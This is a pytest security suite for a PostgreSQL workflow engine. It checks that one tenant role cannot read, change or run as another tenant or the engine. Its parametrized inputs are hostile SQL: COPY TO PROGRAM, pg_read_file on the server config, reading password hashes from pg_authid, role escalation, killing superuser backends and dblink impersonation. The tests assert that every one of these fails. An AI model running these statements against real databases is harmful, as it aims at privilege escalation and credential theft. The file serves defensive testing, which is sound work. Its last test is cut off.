"""Attacks by one tenant on another, and on the engine, that must fail.

The goal (docs/security.md): many application roles share one database, and
none of them can read, change or run as another. Every test here is one attack by an ordinary
LOGIN role that was granted ``df.grant_usage`` (the *attacker*), often against a second such
role (the *victim*), with a real worker where the attack involves execution. Each asserts the
secure outcome on concrete errors and rows. tests/test_identity.py covers the basic escalations
from a step (SET ROLE, SET SESSION AUTHORIZATION, RESET ROLE, the engine tables); this file
complements it.
"""

from __future__ import annotations

import contextlib
import json
import re
import time
import uuid
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

import psycopg
import pytest
from conftest import ThreadWorker
from httpserver import LocalHttpServer

from pgdurable.embedded import EmbeddedPostgres
from pgdurable.worker.egress import EgressPolicy

Conn = psycopg.Connection[Any]
TERMINAL = ("completed", "failed", "cancelled")
MISSING = "0badc0de"  # an instance id nobody has
# A row under another role's name is refused by row-level security, or (migration 10) by a
# trigger that also holds BYPASSRLS roles to it.
NOT_YOURS = "new row violates row-level security policy|must be the current role"


# -- tenants ------------------------------------------------------------------------------------


@dataclass
class Tenant:
    """A LOGIN role granted df usage, owning a schema of its own name, and a session as it."""

    name: str
    conn: Conn

    def value(self, query: str, params: Sequence[object] | None = None) -> Any:
        row = self.conn.execute(query, params).fetchone()
        assert row is not None
        return row[0]

    def start(self, graph_sql: str, params: Sequence[object] | None = None) -> str:
        """SELECT df.start(<graph_sql>) (``params`` fill its %s) and return the id."""
        return str(self.value(f"SELECT df.start({graph_sql})", params))

    def error(self, query: str, params: Sequence[object] | None = None) -> psycopg.Error:
        """The error ``query`` raises (in a transaction that is rolled back)."""
        with pytest.raises(psycopg.Error) as info, self.conn.transaction():
            self.conn.execute(query, params)
        return info.value


TenantFactory = Callable[..., Tenant]


@pytest.fixture
def tenants(cluster: EmbeddedPostgres, dbname: str, conn: Conn) -> Iterator[TenantFactory]:
    """Make tenants: ``tenants()``; ``tenants(grant=False)`` for a role without df usage,
    ``tenants(attributes="BYPASSRLS")`` for extra role attributes."""
    made: list[Tenant] = []

    def make(*, grant: bool = True, attributes: str = "") -> Tenant:
        name = f"t_{uuid.uuid4().hex[:10]}"
        conn.execute(f"CREATE ROLE {name} LOGIN {attributes}")
        if grant:
            conn.execute("SELECT df.grant_usage(%s)", (name,))
        conn.execute(f"CREATE SCHEMA {name} AUTHORIZATION {name}")
        conn.execute(f"ALTER ROLE {name} SET search_path = {name}, public")
        tenant = Tenant(name, psycopg.connect(cluster.dsn(dbname, user=name), autocommit=True))
        made.append(tenant)
        return tenant

    yield make
    for tenant in made:
        tenant.conn.close()
        conn.execute(f"DROP OWNED BY {tenant.name} CASCADE")
        conn.execute(f"DROP ROLE {tenant.name}")


# -- helpers (superuser side) -------------------------------------------------------------------


def poll(condition: Callable[[], bool], what: str, timeout: float = 10.0) -> None:
    """Wait until ``condition()`` holds; fail the test after ``timeout`` seconds."""
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.05)


def status_of(su: Conn, instance: str) -> str | None:
    row = su.execute("SELECT status FROM df.instances WHERE id = %s", (instance,)).fetchone()
    return None if row is None else str(row[0])


def wait_terminal(su: Conn, instance: str, timeout: float = 10.0) -> str:
    """The instance's status once it is completed, failed or cancelled."""
    poll(lambda: status_of(su, instance) in TERMINAL, f"instance {instance} to end", timeout)
    return str(status_of(su, instance))


def output_of(su: Conn, instance: str) -> str:
    """The instance's final output: the root result, or the error it failed with."""
    row = su.execute("SELECT output FROM df._runs WHERE instance_id = %s", (instance,)).fetchone()
    assert row is not None and row[0] is not None, f"instance {instance} has no output"
    return str(row[0])


def rows_of(su: Conn, instance: str) -> list[dict[str, Any]]:
    """The rows of a completed instance's root result."""
    out = json.loads(output_of(su, instance))
    assert isinstance(out, dict), out
    rows: list[dict[str, Any]] = out["rows"]
    return rows


def run(su: Conn, tenant: Tenant, graph_sql: str, params: Sequence[object] | None = None) -> str:
    """Start a workflow as ``tenant`` and wait for it; returns the instance id."""
    instance = tenant.start(graph_sql, params)
    wait_terminal(su, instance)
    return instance


def wait_running_statement(su: Conn, role: str, fragment: str) -> int:
    """The pid of ``role``'s backend once it runs a statement containing ``fragment``."""
    found: list[int] = []

    def running() -> bool:
        row = su.execute(
            "SELECT pid FROM pg_stat_activity WHERE usename = %s AND state = 'active'"
            " AND position(%s in query) > 0",
            (role, fragment),
        ).fetchone()
        if row is not None:
            found.append(int(row[0]))
        return bool(found)

    poll(running, f"{role} to run {fragment!r}")
    return found[0]


def forge_graph(
    tenant: Tenant,
    nodes: Sequence[tuple[str, str, str | None, str | None, str | None]],
    submitted_by: str | None = None,
    database: str | None = None,
    instance: str | None = None,
) -> str:
    """Insert an instance and its nodes by hand, as a user may, skipping df.start.

    ``nodes`` are (id, node_type, query, left_node, right_node); the first is the root.
    """
    instance = instance or uuid.uuid4().hex[:8]
    owner = submitted_by or tenant.name
    with tenant.conn.transaction():
        tenant.conn.execute(
            "INSERT INTO df.instances (id, root_node, submitted_by, database)"
            " VALUES (%s, %s, %s::regrole, %s)",
            (instance, nodes[0][0], owner, database),
        )
        for node_id, node_type, query, left, right in nodes:
            tenant.conn.execute(
                "INSERT INTO df.nodes (id, instance_id, node_type, query, left_node, right_node,"
                " submitted_by) VALUES (%s, %s, %s, %s, %s, %s, %s::regrole)",
                (node_id, instance, node_type, query, left, right, owner),
            )
    return instance


def node_id() -> str:
    return uuid.uuid4().hex[:8]


# -- 1. escalation from a SQL step to the worker's privileges -----------------------------------


@pytest.mark.parametrize(
    ("step", "message"),
    [
        ("COPY (SELECT 1) TO PROGRAM 'true'", "COPY to or from an external program"),
        ("SELECT pg_read_file('postgresql.conf')", "permission denied for function pg_read_file"),
        ("SELECT rolpassword FROM pg_authid", "permission denied for table pg_authid"),
        ("SELECT * FROM df._signals", "permission denied for table _signals"),
        ("SELECT * FROM df._worker_epoch", "permission denied for table _worker_epoch"),
        ("SELECT * FROM df._schema", "permission denied for table _schema"),
        (
            "SELECT df._consume_signal('00000000', 'x', 1, 1000)",
            "permission denied for function _consume_signal",
        ),
        (
            "SELECT df._signal_pending('00000000', 'x')",
            "permission denied for function _signal_pending",
        ),
        ("SELECT df._instance_created()", "permission denied for function _instance_created"),
        ("ALTER ROLE CURRENT_USER SUPERUSER", "permission denied to alter role"),
        ("ALTER ROLE CURRENT_USER BYPASSRLS", "permission denied to alter role"),
        ("GRANT pg_read_server_files TO CURRENT_USER", "permission denied to grant role"),
        ("ALTER TABLE df.instances DISABLE ROW LEVEL SECURITY", "must be owner of table instances"),
        ("DROP POLICY vars_user_isolation ON df.vars", "must be owner of relation vars"),
        (
            "CREATE FUNCTION df.status(varchar) RETURNS text LANGUAGE sql AS 'SELECT 1::text'",
            "permission denied for schema df",
        ),
        (
            "CREATE TRIGGER steal BEFORE INSERT ON df.vars"
            " FOR EACH ROW EXECUTE FUNCTION df._in_workflow()",
            "permission denied for table vars",
        ),
        ("CREATE EXTENSION postgres_fdw", "permission denied to create extension"),
        (
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"
            " WHERE usesysid IN (SELECT oid FROM pg_roles WHERE rolsuper)",
            "permission denied to terminate process",
        ),
        (
            "SELECT pg_cancel_backend(pid) FROM pg_stat_activity"
            " WHERE usesysid IN (SELECT oid FROM pg_roles WHERE rolsuper)",
            "permission denied to cancel query",
        ),
    ],
)
def test_a_step_cannot_reach_beyond_its_role(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker, step: str, message: str
) -> None:
    attacker = tenants()
    instance = run(conn, attacker, "%s", (step,))
    assert status_of(conn, instance) == "failed"
    assert message in output_of(conn, instance)


def test_dblink_cannot_log_in_as_another_role(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker, dbname: str
) -> None:
    # An administrator installed dblink (or pgdurable did, in a schema of its own) and made
    # it usable by everyone.
    conn.execute("CREATE EXTENSION IF NOT EXISTS dblink")
    schema = conn.execute(
        "SELECT extnamespace::regnamespace::text FROM pg_extension WHERE extname = 'dblink'"
    ).fetchone()
    assert schema is not None
    conn.execute(f"GRANT USAGE ON SCHEMA {schema[0]} TO PUBLIC")
    victim, attacker = tenants(), tenants()
    for role in ("postgres", victim.name):
        target = f"dbname={dbname} user={role}"
        for step, message in (
            (
                f"SELECT * FROM {schema[0]}.dblink('{target}', 'SELECT current_user::text')"
                " AS t(u text)",
                "password or GSSAPI delegated credentials required",
            ),
            (
                f"SELECT {schema[0]}.dblink_connect_u('{target}')",
                "permission denied for function dblink_connect_u",
            ),
        ):
            instance = run(conn, attacker, "%s", (step,))
            assert status_of(conn, instance) == "failed"
            assert message in output_of(conn, instance)


# SECURITY DEFINER functions an ordinary role may call, each reviewed for what a caller can
# make it do: the checkpoint pair and df._task_facts (the pair's reading half, without its
# locks) demand the task's secret token; df.version reads the
# migration list; df._in_new_transaction (transaction_mode => 'new' of df.start and df.signal)
# logs its loopback in as the caller's session_user and SET ROLEs to the requested role, which
# PostgreSQL checks against that login's memberships, and calls one of two fixed functions
# with quoted arguments; df._admin_setting returns what an administrator set a pg_durable.*
# setting to (and nothing for other names, whose values the configuration files may keep
# secret); df._step_has_worker says whether some live worker has a Python step of a given
# name, nothing else of the workers; df.continue_with signs a graph for the caller's own
# session_user only (what it signs runs only in that role's instances, as that role). A new one
# must be reviewed and added here.
REVIEWED_DEFINERS = {
    "df._step_has_worker(text)",
    "df.continue_with(text)",
    "df._checkpoint(bigint,uuid,jsonb,uuid,integer,double precision)",
    "df._checkpoint_begin(bigint,uuid)",
    "df._task_facts(bigint,uuid)",
    "df.version()",
    "df._in_new_transaction(text,text[],text)",
    "df._admin_setting(text)",
}


def test_security_definer_functions_users_can_call_are_reviewed_ones(
    conn: Conn, tenants: TenantFactory
) -> None:
    attacker = tenants()
    callable_definers = {
        str(r[0])
        for r in attacker.conn.execute(
            "SELECT p.oid::regprocedure::text FROM pg_proc p"
            " WHERE p.pronamespace = 'df'::regnamespace AND p.prosecdef"
            " AND has_function_privilege(p.oid, 'EXECUTE')"
        )
    }
    assert callable_definers <= REVIEWED_DEFINERS
    assert {
        "df._checkpoint(bigint,uuid,jsonb,uuid,integer,double precision)",
        "df._checkpoint_begin(bigint,uuid)",
    } <= callable_definers
    # Every SECURITY DEFINER function pins its search_path, so a user's objects cannot
    # stand in for what it calls.
    unpinned = conn.execute(
        "SELECT p.oid::regprocedure::text FROM pg_proc p"
        " WHERE p.pronamespace = 'df'::regnamespace AND p.prosecdef"
        " AND NOT EXISTS (SELECT 1 FROM unnest(p.proconfig) c WHERE c LIKE 'search_path=%')"
    ).fetchall()
    assert unpinned == []


def test_forged_checkpoints_with_null_or_guessed_tokens_touch_no_task(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    victim, attacker = tenants(), tenants()
    # Unclaimed tasks (a signal wait, a long timer) have a NULL token.
    waiting = victim.start("df.wait_for_signal('go')")
    sleeping = victim.start("df.sleep(60)")
    poll(
        lambda: (
            conn.execute(
                "SELECT count(*) FROM df._tasks WHERE instance_id IN (%s, %s)"
                " AND kind IN ('signal', 'timer') AND lease_owner IS NULL",
                (waiting, sleeping),
            ).fetchone()
            == (2,)
        ),
        "the victim's waits",
    )
    tasks = "SELECT id, token, visible_at::text FROM df._tasks ORDER BY id"
    before = conn.execute(tasks).fetchall()
    top = max(r[0] for r in before) + 5
    forged = '{"outcome": {"status": "completed", "output": "forged"}}'
    for task in range(1, top):
        for token in (None, str(uuid.uuid4())):
            for reader in ("df._checkpoint_begin", "df._task_facts"):
                assert (
                    attacker.conn.execute(
                        f"SELECT * FROM {reader}(%s, %s::uuid)", (task, token)
                    ).fetchall()
                    == []
                )
            error = attacker.error(
                "SELECT * FROM df._checkpoint(%s, %s::uuid, %s::jsonb, gen_random_uuid(), 5, 1)",
                (task, token, forged),
            )
            assert "is no longer held by this worker" in str(error)
    after = conn.execute(tasks).fetchall()
    assert after == before
    assert status_of(conn, waiting) == status_of(conn, sleeping) == "running"


def test_a_step_elsewhere_cannot_checkpoint_or_see_tokens(
    cluster: EmbeddedPostgres, conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    victim, attacker = tenants(), tenants()
    other = f"o_{uuid.uuid4().hex[:8]}"
    conn.execute(f"CREATE DATABASE {other}")
    try:
        with psycopg.connect(cluster.dsn(other), autocommit=True) as c:
            c.execute(f"GRANT CREATE ON SCHEMA public TO {attacker.name}")
        waiting = victim.start("df.wait_for_signal('go')")
        poll(lambda: status_of(conn, waiting) == "running", "the victim's wait")
        tasks = "SELECT id, token, visible_at::text FROM df._tasks ORDER BY id"
        before = conn.execute(tasks).fetchall()
        # In the other database the step sees nothing of df, and a df schema it creates there
        # is only its own.
        step = (
            "SELECT current_database()::text AS db, to_regclass('df._tasks') IS NULL AS no_df,"
            " current_setting('df.in_workflow') AS wf"
        )
        instance = attacker.start("%s, NULL, %s", (step, other))
        assert wait_terminal(conn, instance) == "completed", output_of(conn, instance)
        assert rows_of(conn, instance) == [{"db": other, "no_df": True, "wf": "true"}]
        assert conn.execute(tasks).fetchall() == before
        assert status_of(conn, waiting) == "running"
    finally:
        conn.execute(f"DROP DATABASE IF EXISTS {other} WITH (FORCE)")


def test_other_roles_backends_cannot_be_cancelled_or_spied_on(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    victim, attacker = tenants(), tenants()
    victim.value("SELECT df.setvar('api_key', 'k-123-secret')")
    instance = victim.start("%s", ("SELECT pg_sleep(1.5), '{api_key}' AS key",))
    pid = wait_running_statement(conn, victim.name, "pg_sleep(1.5)")
    # The attacker sees that the session exists, but not what it runs.
    seen = attacker.conn.execute(
        "SELECT query FROM pg_stat_activity WHERE pid = %s", (pid,)
    ).fetchone()
    assert seen == ("<insufficient privilege>",)
    for function in ("pg_cancel_backend", "pg_terminate_backend"):
        error = attacker.error(f"SELECT {function}(%s)", (pid,))
        assert isinstance(error, psycopg.errors.InsufficientPrivilege), error
    assert wait_terminal(conn, instance) == "completed"
    assert rows_of(conn, instance)[0]["key"] == "k-123-secret"


def test_a_steps_session_state_does_not_outlive_the_step(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    victim, attacker = tenants(), tenants()
    # The attacker's step takes a session advisory lock the victim's workflow uses, and
    # would keep it for as long as its pooled connection lives if the reset missed it.
    held = run(
        conn,
        attacker,
        "%s ~> %s",
        ("SELECT pg_advisory_lock(4242)", "SELECT set_config('app.tenant', 'attacker', false)"),
    )
    assert status_of(conn, held) == "completed"
    instance = run(conn, victim, "%s", ("SELECT pg_try_advisory_lock(4242) AS got",))
    assert rows_of(conn, instance) == [{"got": True}]


def test_a_lookalike_role_name_does_not_receive_another_roles_steps(
    cluster: EmbeddedPostgres, dbname: str, conn: Conn, worker: ThreadWorker
) -> None:
    # Mixed case: regrole's text is the quoted form, "Alice_...", which is also the name of
    # another role. Steps must log in by the role's name, not by that text.
    victim = f"Alice_{uuid.uuid4().hex[:6]}"
    lookalike = f'"{victim}"'
    for role in (victim, lookalike):
        quoted = '"' + role.replace('"', '""') + '"'
        conn.execute(f"CREATE ROLE {quoted} LOGIN")
        conn.execute("SELECT df.grant_usage(%s)", (role,))
    try:
        with psycopg.connect(cluster.dsn(dbname, user=victim), autocommit=True) as c:
            instance = run(conn, Tenant(victim, c), "'SELECT session_user::text AS su'")
        assert status_of(conn, instance) == "completed", output_of(conn, instance)
        assert rows_of(conn, instance) == [{"su": victim}]
    finally:
        for role in (victim, lookalike):
            quoted = '"' + role.replace('"', '""') + '"'
            conn.execute(f"DROP OWNED BY {quoted}")
            conn.execute(f"DROP ROLE {quoted}")


# -- 2. reading another role's data -------------------------------------------------------------


@pytest.fixture
def victims_world(conn: Conn, tenants: TenantFactory, worker: ThreadWorker) -> tuple[Tenant, str]:
    """A victim with a var, a completed instance with a secret result, and a waiting one."""
    victim = tenants()
    victim.value("SELECT df.setvar('api_key', 'victim-api-key')")
    done = run(conn, victim, "%s |=> 'r' ~> %s", ("SELECT 'victim-secret' AS s", "SELECT $r AS s"))
    assert status_of(conn, done) == "completed"
    waiting = victim.start("df.wait_for_signal('go')")
    poll(lambda: status_of(conn, waiting) == "running", "the victim's wait")
    return victim, done


def test_foreign_rows_are_invisible_to_a_session(
    conn: Conn, tenants: TenantFactory, victims_world: tuple[Tenant, str]
) -> None:
    attacker = tenants()
    for query in (
        "SELECT count(*) FROM df.instances",
        "SELECT count(*) FROM df.nodes",
        "SELECT count(*) FROM df.vars",
        "SELECT count(*) FROM df._runs",
        "SELECT count(*) FROM df.list_instances()",
        "SELECT count(*) FROM df.list_instances('completed')",
        "SELECT count(*) FROM df.nodes WHERE result::text LIKE '%victim-secret%'",
    ):
        assert attacker.value(query) == 0, query
    assert attacker.value("SELECT df.getvar('api_key')") is None


def test_foreign_rows_are_invisible_to_a_step(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker, victims_world: tuple[Tenant, str]
) -> None:
    attacker = tenants()
    instance = run(
        conn,
        attacker,
        "%s",
        (
            "SELECT (SELECT count(*) FROM df.instances WHERE id <> '{sys_instance_id}') AS i,"
            " (SELECT count(*) FROM df.nodes WHERE instance_id <> '{sys_instance_id}') AS n,"
            " (SELECT count(*) FROM df.vars) AS v,"
            " (SELECT count(*) FROM df._runs WHERE instance_id <> '{sys_instance_id}') AS r",
        ),
    )
    assert rows_of(conn, instance) == [{"i": 0, "n": 0, "v": 0, "r": 0}]


def answer(tenant: Tenant, query: str, instance: str) -> str:
    """What ``query`` (with %s = ``instance``) tells ``tenant``: its row or its error, with
    the instance id masked, for comparing a foreign instance with a missing one."""
    try:
        with tenant.conn.transaction():
            cur = tenant.conn.execute(query, (instance,))
            row = cur.fetchone() if cur.description else cur.statusmessage
    except psycopg.Error as exc:
        text = f"{exc.sqlstate}: {exc.diag.message_primary}"
    else:
        text = repr(row)
    return text.replace(instance, "<id>")


def test_client_functions_answer_alike_for_foreign_and_missing_instances(
    conn: Conn, tenants: TenantFactory, victims_world: tuple[Tenant, str]
) -> None:
    attacker = tenants()
    _, foreign = victims_world
    calls = {
        "SELECT df.status(%s)": "(None,)",
        "SELECT df.result(%s)": "(None,)",
        "SELECT df.cancel(%s)": "P0002: Instance not found or access denied: <id>",
        "SELECT df.signal(%s, 'go', '{}')": "P0002: Instance not found or access denied: <id>",
        "SELECT df.await_instance(%s, 1)": "P0002: Instance not found: <id>",
        "SELECT count(*) FROM df.list_instances() WHERE instance_id = %s": "(0,)",
    }
    for call, expected in calls.items():
        assert answer(attacker, call, foreign) == expected, call
        assert answer(attacker, call, MISSING) == expected, call
    assert status_of(conn, foreign) == "completed"


def test_a_leaky_function_in_a_filter_sees_no_foreign_row(
    conn: Conn, tenants: TenantFactory, victims_world: tuple[Tenant, str]
) -> None:
    attacker = tenants()
    attacker.conn.execute(
        f"CREATE FUNCTION {attacker.name}.leak(t text) RETURNS boolean"
        " LANGUAGE plpgsql COST 0.0000001 AS $$ BEGIN RAISE NOTICE 'leak: %', t;"
        " RETURN true; END $$"
    )
    leaked: list[str] = []
    attacker.conn.add_notice_handler(lambda d: leaked.append(d.message_primary or ""))
    for query in (
        "SELECT count(*) FROM df.instances WHERE leak(id || ':' || status)",
        "SELECT count(*) FROM df.nodes WHERE leak(coalesce(result::text, query))",
        "SELECT count(*) FROM df.vars WHERE leak(value)",
        "SELECT count(*) FROM df._runs WHERE leak(output)",
    ):
        assert attacker.value(query) == 0, query
    assert leaked == []


def test_planner_statistics_do_not_show_foreign_values(
    conn: Conn, tenants: TenantFactory, victims_world: tuple[Tenant, str]
) -> None:
    attacker = tenants()
    conn.execute("ANALYZE df.instances, df.nodes, df.vars, df._runs")
    assert conn.execute(
        "SELECT count(*) > 0 FROM pg_stats WHERE schemaname = 'df' AND tablename = 'vars'"
    ).fetchone() == (True,)
    assert (
        attacker.value(
            "SELECT count(*) FROM pg_stats WHERE schemaname = 'df'"
            " AND tablename IN ('instances', 'nodes', 'vars', '_runs')"
        )
        == 0
    )


def test_probing_with_foreign_keys_and_signals_answers_alike(
    conn: Conn, tenants: TenantFactory, victims_world: tuple[Tenant, str]
) -> None:
    attacker = tenants()
    victim, foreign = victims_world
    probes = {
        # A node under the attacker's own name in the victim's instance: the deferred
        # foreign key to (instance, submitted_by) fails at commit either way.
        f"INSERT INTO df.nodes (id, instance_id, node_type, query, submitted_by)"
        f" VALUES ('0000abcd', %s, 'SQL', 'SELECT 1', '{attacker.name}')": ("23503",),
        # Under the victim's name: refused before anything is looked up.
        f"INSERT INTO df.nodes (id, instance_id, node_type, query, submitted_by)"
        f" VALUES ('0000abcd', %s, 'SQL', 'SELECT 1', '{victim.name}')": ("42501",),
        # Refused by row-level security, or (migration 10) as df.signal refuses it.
        "INSERT INTO df._signals (instance_id, name, data) VALUES (%s, 'go', '{}')": (
            "42501",
            "P0002",
        ),
    }
    for query, sqlstates in probes.items():
        said = answer(attacker, query, foreign)
        assert said == answer(attacker, query, MISSING), query
        assert said.split(":")[0] in sqlstates, said
    assert conn.execute(
        "SELECT count(*) FROM df.nodes WHERE instance_id = %s", (foreign,)
    ).fetchone() == (3,)


# -- 3. changing another role's data ------------------------------------------------------------


def everything_of(su: Conn, role: str) -> tuple[Any, ...]:
    """A role's instances, nodes, variables and runs, as rows, to compare before and after."""
    row = su.execute(
        "SELECT (SELECT array_agg(i::text ORDER BY id) FROM df.instances i"
        "         WHERE submitted_by = %(r)s::regrole),"
        " (SELECT array_agg(n::text ORDER BY instance_id, id) FROM df.nodes n"
        "   WHERE submitted_by = %(r)s::regrole),"
        " (SELECT array_agg(v::text ORDER BY name) FROM df.vars v WHERE owner = %(r)s::regrole),"
        " (SELECT array_agg(r::text ORDER BY instance_id) FROM df._runs r"
        "   JOIN df.instances i ON i.id = r.instance_id WHERE i.submitted_by = %(r)s::regrole)",
        {"r": role},
    ).fetchone()
    assert row is not None
    return tuple(row)


@pytest.mark.parametrize(
    ("statement", "outcome"),
    [
        ("UPDATE df.instances SET status = 'cancelled' WHERE id = '{id}'", 0),
        ("UPDATE df.instances SET updated_at = now()", 0),
        ("DELETE FROM df.instances WHERE id = '{id}'", "permission denied for table instances"),
        ("UPDATE df.nodes SET status = 'failed'", "permission denied for table nodes"),
        ("DELETE FROM df.nodes", "permission denied for table nodes"),
        ("UPDATE df.vars SET value = 'pwned'", 0),
        ("DELETE FROM df.vars", 0),
        ("TRUNCATE df.vars", "permission denied for table vars"),
        ("UPDATE df._runs SET output = 'pwned'", "permission denied for table _runs"),
        ("DELETE FROM df._signals", "permission denied for table _signals"),
        ("UPDATE df._tasks SET visible_at = now()", "permission denied for table _tasks"),
        (
            "INSERT INTO df.vars (name, value, owner) VALUES ('api_key', 'pwned', '{victim}')",
            NOT_YOURS,
        ),
        (
            "INSERT INTO df.vars (name, value, owner) VALUES ('api_key', 'x', '{victim}')"
            " ON CONFLICT (owner, name) DO UPDATE SET value = 'pwned'",
            NOT_YOURS,
        ),
        (
            "INSERT INTO df.instances (id, root_node, submitted_by)"
            " VALUES ('{id}', '00000000', '{attacker}')"
            " ON CONFLICT (id) DO UPDATE SET status = 'cancelled'",
            "row-level security policy",
        ),
    ],
)
@pytest.mark.parametrize("where", ["session", "step"])
def test_foreign_rows_cannot_be_changed(
    conn: Conn,
    tenants: TenantFactory,
    worker: ThreadWorker,
    victims_world: tuple[Tenant, str],
    statement: str,
    outcome: int | str,
    where: str,
) -> None:
    attacker = tenants()
    attacker.value("SELECT df.setvar('mine', 'x')")
    victim, foreign = victims_world
    before = everything_of(conn, victim.name)
    sql = statement.format(id=foreign, victim=victim.name, attacker=attacker.name)
    if where == "session":
        if isinstance(outcome, int):
            cur = attacker.conn.execute(sql)
            assert cur.rowcount <= 1  # at most the attacker's own var
        else:
            assert re.search(outcome, str(attacker.error(sql)))
    else:
        instance = run(conn, attacker, "%s", (sql,))
        if isinstance(outcome, int):
            assert status_of(conn, instance) == "completed", output_of(conn, instance)
        else:
            assert status_of(conn, instance) == "failed"
            assert re.search(outcome, output_of(conn, instance))
    after = everything_of(conn, victim.name)
    assert after == before


@pytest.mark.parametrize(
    "statement",
    [
        "COPY df.vars (name, value, owner) FROM STDIN",
        "COPY df.instances (id, root_node, submitted_by) FROM STDIN",
        "MERGE INTO df.vars v USING (SELECT 1) s ON v.owner = '{victim}'::regrole"
        " AND v.name = 'where_clause' WHEN MATCHED THEN UPDATE SET value = 'true'",
        "MERGE INTO df.vars v USING (SELECT 1) s ON v.owner = '{victim}'::regrole"
        " AND v.name = 'where_clause' WHEN MATCHED THEN DELETE",
        "INSERT INTO df.vars (name, value, owner) VALUES ('where_clause', 'true', '{victim}')"
        " ON CONFLICT (owner, name) DO UPDATE SET value = 'true'",
        "INSERT INTO df.vars (name, value) VALUES ('mine', 'x')"
        " ON CONFLICT (owner, name) DO UPDATE SET owner = '{victim}'::regrole",
        "MERGE INTO df.vars v USING (SELECT 1) s ON false"
        " WHEN NOT MATCHED THEN INSERT (name, value, owner) VALUES ('t', 'x', '{victim}')",
    ],
)
@pytest.mark.parametrize("bypass", [False, True])
def test_copy_merge_upsert_cannot_write_another_roles_rows(
    conn: Conn, tenants: TenantFactory, statement: str, bypass: bool
) -> None:
    victim = tenants()
    attacker = tenants(attributes="BYPASSRLS" if bypass else "")
    victim.value("SELECT df.setvar('where_clause', 'id = 1')")
    attacker.value("SELECT df.setvar('mine', 'x')")
    before = conn.execute("SELECT * FROM df.vars ORDER BY 1, 3").fetchall()
    sql = statement.format(victim=victim.name)
    try:
        with attacker.conn.transaction():
            if sql.startswith("COPY df.vars"):
                with attacker.conn.cursor().copy(sql) as copy:
                    copy.write_row(("table", "pg_authid", victim.name))
            elif sql.startswith("COPY df.instances"):
                with attacker.conn.cursor().copy(sql) as copy:
                    copy.write_row((node_id(), node_id(), victim.name))
            else:
                attacker.conn.execute(sql)
    except psycopg.Error:
        pass  # refused; without BYPASSRLS, MERGE simply matches none of the victim's rows
    assert conn.execute("SELECT * FROM df.vars ORDER BY 1, 3").fetchall() == before
    assert conn.execute("SELECT count(*) FROM df.instances").fetchone() == (0,)


# -- 4. forging progress or identity on one's own instances -------------------------------------


@pytest.mark.parametrize(
    ("statement", "message"),
    [
        (
            "INSERT INTO df.instances (id, root_node, submitted_by)"
            " VALUES ('{new}', '{new}', '{victim}')",
            NOT_YOURS,
        ),
        (
            "INSERT INTO df.instances (id, root_node, submitted_by)"
            " VALUES ('{new}', '{new}', 'postgres')",
            NOT_YOURS,
        ),
        (
            "INSERT INTO df.instances (id, root_node, submitted_by, status)"
            " VALUES ('{new}', '{new}', '{attacker}', 'completed')",
            "permission denied for table instances",
        ),
        (
            "INSERT INTO df.instances (id, root_node, submitted_by, completed_at)"
            " VALUES ('{new}', '{new}', '{attacker}', now())",
            "permission denied for table instances",
        ),
        (
            "INSERT INTO df.nodes (id, instance_id, node_type, query, submitted_by, status, result)"
            " VALUES ('{new}', '{own}', 'SQL', 'SELECT 1', '{attacker}', 'completed', '1')",
            "permission denied for table nodes",
        ),
        ("UPDATE df.instances SET completed_at = now()", "permission denied for table instances"),
        (
            "UPDATE df.instances SET submitted_by = '{victim}'",
            "permission denied for table instances",
        ),
        ("UPDATE df.nodes SET result = '1'", "permission denied for table nodes"),
        ("DELETE FROM df.instances", "permission denied for table instances"),
        ("DELETE FROM df.nodes", "permission denied for table nodes"),
        ("UPDATE df._runs SET output = 'forged'", "permission denied for table _runs"),
    ],
)
def test_own_rows_cannot_be_forged(
    conn: Conn,
    tenants: TenantFactory,
    worker: ThreadWorker,
    statement: str,
    message: str,
) -> None:
    victim, attacker = tenants(), tenants()
    own = attacker.start("df.wait_for_signal('go')")
    poll(lambda: status_of(conn, own) == "running", "the attacker's wait")
    sql = statement.format(new=node_id(), own=own, victim=victim.name, attacker=attacker.name)
    assert re.search(message, str(attacker.error(sql)))
    assert status_of(conn, own) == "running"


def test_a_user_may_cancel_its_own_instance_directly(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    attacker = tenants()
    own = attacker.start("df.sleep(60)")
    poll(lambda: status_of(conn, own) == "running", "the sleep")
    attacker.conn.execute("UPDATE df.instances SET status = 'cancelled' WHERE id = %s", (own,))
    assert status_of(conn, own) == "cancelled"
    assert conn.execute(
        "SELECT count(*) FROM df._tasks WHERE instance_id = %s", (own,)
    ).fetchone() == (0,)


@pytest.mark.parametrize(
    ("start", "forged"),
    [
        ("df.wait_for_signal('go')", "completed"),
        ("df.wait_for_signal('go')", "failed"),
        ("df.wait_for_signal('go')", "pending"),
        ("'SELECT 1'", "running"),
        ("'SELECT 1'", "pending"),
        ("'SELECT 1'", "failed"),
        ("'SELECT 1'", "cancelled"),
    ],
)
def test_a_user_cannot_forge_its_own_instances_status(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker, start: str, forged: str
) -> None:
    attacker = tenants()
    own = attacker.start(start)
    settled = "running" if "signal" in start else "completed"
    poll(lambda: status_of(conn, own) == settled, f"the instance to be {settled}")
    for statement in (
        "UPDATE df.instances SET status = %s WHERE id = %s",
        "INSERT INTO df.instances (id, root_node, submitted_by)"
        f" SELECT id, root_node, '{attacker.name}' FROM df.instances WHERE id = %s"
        " ON CONFLICT (id) DO UPDATE SET status = %s",
    ):
        params = (forged, own) if statement.startswith("UPDATE") else (own, forged)
        error = attacker.error(statement, params)
        assert isinstance(error, psycopg.errors.InsufficientPrivilege), error
        assert f"permission denied to change the status of instance {own}" in str(error)
    assert status_of(conn, own) == settled


def test_a_user_cannot_set_its_instance_status_to_null(
    conn: Conn, tenants: TenantFactory, worker: ThreadWorker
) -> None:
    attacker = tenants()
    own = attacker.start("df.wait_for_signal('go')")
    poll(lambda: status_of(conn, own) == "running", "the wait")
